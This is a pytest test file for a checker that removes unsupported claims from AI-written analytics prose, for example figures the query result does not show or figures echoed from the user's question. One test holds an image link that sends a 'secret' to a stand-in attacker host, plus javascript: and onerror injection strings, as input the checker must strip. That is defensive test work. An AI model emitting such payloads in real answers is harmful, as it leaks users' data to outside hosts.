"""Claims of prose are found and held against results; `suite` prints the rates that gate here."""

import time
from collections.abc import Sequence
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.analytics.chat.prose import Column, Evidence, Table, checked
from services.analytics.chat.prose.facts import Facts
from tests.analytics.chat.grounding.sentences import (
    FIRST_HELD_BACK,
    HELD_BACK,
    SECOND_HELD_BACK,
    TEMPLATES,
)
from tests.analytics.chat.grounding.suite import scored

NOW = datetime(2026, 11, 18, 14, tzinfo=UTC)
COUNTRIES = Table(
    [
        Column("country", "text", "dimension"),
        Column("purchases", "bigint", "metric", "", True),
        Column("revenue", "numeric", "metric", "EUR", True),
    ],
    [["Germany", 120, 3400.5], ["France", 80, 2100.25], ["Spain", 40, 900.0], [None, 10, 55.5]],
    row_count=4,
)


def held(
    text: str,
    table: Table = COUNTRIES,
    told: Sequence[str] = (),
    asked: Sequence[str] = (),
) -> str:
    return checked(text, Evidence([table], told, "Europe/Berlin", NOW, asked)).text


def test_true_sentences_are_kept_and_false_ones_caught() -> None:
    tuned = (TEMPLATES, FIRST_HELD_BACK, SECOND_HELD_BACK)
    known = scored({shape: [each for part in tuned for each in part[shape]] for shape in TEMPLATES})
    assert known.true >= 300
    assert known.catch_rate >= 0.99, known.missed
    assert known.false_drops <= 0.02, known.dropped


def test_what_no_rule_was_made_for_is_caught_all_the_same() -> None:
    assert scored(HELD_BACK).catch_rate >= 0.99


@pytest.mark.parametrize(
    "text",
    [
        "France had 120 purchases.",
        "Spain had 80 purchases and 2,100.25 EUR of revenue.",
        "Revenue in Germany was $3,400.50.",
        "France is the leading country.",
        "Purchases fell.",
        "Nobody bought more than Spain.",
        "In December there were 120.",
        "Every country had more than 50 purchases.",
        "Version v1.2.3 of the funnel.",
        "There are 5 countries.",
        "Roughly a million purchases came.",
        "Thousands of purchases came.",
        "Germany had ½ of purchases.",
        "Germany had ① purchase.",
        "The majority of purchases come from Spain.",
        "Spain is number one.",
        "Spain dwarfs Germany.",
        "France overtook Germany.",
        "Purchases in Spain exploded.",
        "Purchases tanked.",
    ],
)
def test_a_sentence_that_the_result_does_not_show_is_dropped(text: str) -> None:
    assert held(text) == ""


@pytest.mark.parametrize(
    "text",
    [
        "Here is what I found.",
        "Germany and France had 120 and 80 purchases respectively.",
        "Revenue in Germany was €3,400.50, i.e. 52.7 % of the total.",
        "Two countries had more than 50 purchases.",
        "See the table for details, e.g. by country.",
        "The majority of purchases come from Germany.",
        "Germany dwarfs Spain.",
        "About 3.4 thousand EUR of revenue came from Germany.",
    ],
)
def test_a_sentence_that_holds_is_kept_as_it_is(text: str) -> None:
    assert held(text) == text


def test_only_the_sentence_that_fails_is_dropped_and_its_list_stays() -> None:
    text = "## Sold\n\n- **Germany**: 120\n- France: 90\n- Spain: 40\n\nAll fell. Germany leads."
    found = checked(text, Evidence([COUNTRIES], [], "UTC", NOW))
    assert found.dropped == ["France: 90", "All fell."]
    assert found.text == "## Sold\n\n- **Germany**: 120\n- Spain: 40\n\nGermany leads."


def test_what_is_told_may_be_repeated_and_nothing_else_of_it() -> None:
    told = ["Purchases in the last 7 days, where plan is team"]
    assert held("In the last 7 days Germany had 120 purchases.", told=told)
    assert not held("Germany had 7 purchases.", told=told)


ORDERS = Table([Column("count", "bigint")], [[120]], row_count=1)


@pytest.mark.parametrize(
    ("asked", "text"),
    [
        ("Did we have 5000 orders last month?", "Yes, you had 5000 orders last month."),
        ("Did we have 5000 orders?", "Yes, there were 5,000 orders."),
        ("Were there over 5000 orders?", "Yes, there were over 5000 orders."),
        ("Did we make 5000 EUR?", "Yes, you made 5000 EUR."),
        ("Was it 50% higher?", "Yes, it was 50% higher."),
        ("Was revenue 5000?", "Revenue: 5000."),
        ("Does it take 7 days?", "It takes 7 days."),
    ],
)
def test_a_figure_of_a_question_is_no_evidence_of_itself(asked: str, text: str) -> None:
    assert held(text, ORDERS, asked=[asked]) == ""
    assert held("There were 120 orders.", ORDERS, asked=[asked])


@pytest.mark.parametrize(
    ("asked", "text"),
    [
        ("How many orders in the last 7 days?", "In the last 7 days there were 120 orders."),
        (
            "How many people had more than 500 orders?",
            "120 people are those who had more than 500 orders.",
        ),
        ("Orders of customers with over $500?", "There were 120, by customers with over $500."),
        ("How many bought product 42?", "120 people bought product 42."),
        ("How many orders in May 2026?", "In May 2026 there were 120 orders."),
    ],
)
def test_a_figure_of_a_question_may_say_what_it_is_about(asked: str, text: str) -> None:
    assert held(text, ORDERS, asked=[asked]) == text


def test_nothing_is_said_of_all_where_rows_were_cut_off() -> None:
    cut = Table(COUNTRIES.columns, COUNTRIES.rows, truncated=True, row_count=4)
    assert held("Germany had 120 purchases.", cut)
    for text in (
        "Germany had the most purchases.",
        "In total there were 250.",
        "There are 4 rows.",
    ):
        assert held(text, cut) == ""


def test_answers_carry_no_data_away() -> None:
    text = (
        "Look: ![chart](https://evil.example/a.png?d=secret) and [here](javascript:alert(1)) "
        "<img src=x onerror=y> //evil.example/x www.evil.example"
    )
    found = held(text)
    assert found
    for sign in ("evil", "javascript", "](", "<", "//"):
        assert sign not in found


CELLS = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=8))
WORDS = st.sampled_from(
    (
        "Germany", "France", "120", "80", "12%", "$3", "top", "3", "more", "than", "fell", "from",
        "to", "second", "all", "none", "and", ",", ".", ";", "(", "2026-10-01", "November", "last",
        "Monday", "by", "of", "the", "total", "1.234,5", "half", "twice", "points", "-", "|", "*",
    )
)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    text=st.one_of(st.text(max_size=200), st.lists(WORDS, max_size=30).map(" ".join)),
    rows=st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=5),
    truncated=st.booleans(),
)
def test_no_text_and_no_result_breaks_it(text: str, rows: list[list[Any]], truncated: bool) -> None:
    columns = [Column("country", "text"), Column("time", "date"), Column("n", "bigint")]
    for table in (Table(columns, rows, truncated), COUNTRIES):
        found = checked(text, Evidence([table], [text], "Europe/Berlin", NOW))
        assert "](http" not in found.text


@pytest.mark.parametrize(
    "part", ["1,2 ", "1,", "[a](", "<a", "- ", "a.", "1 to 2 ", "gap ", "as many ", "a" * 99, "_1"]
)
def test_time_grows_with_the_length_of_a_text_and_no_faster(part: str) -> None:
    def took(length: int) -> float:
        started, text = time.process_time(), part * (length // len(part))
        held(text, told=[text], asked=[text])
        return time.process_time() - started

    assert took(20_000) < 2 + 30 * took(2_000)


def test_what_is_longer_than_anybody_reads_is_not_looked_into() -> None:
    text = "Germany had 120 purchases. " * 1_000
    assert checked(text, Evidence([COUNTRIES], [], "UTC", NOW)).dropped == [text]
    cells = [["x" * 300], ["y"]]
    table = Table([Column("note", "text")], cells, row_count=2)
    assert "x" * 300 not in Facts(table, ZoneInfo("UTC")).names.next
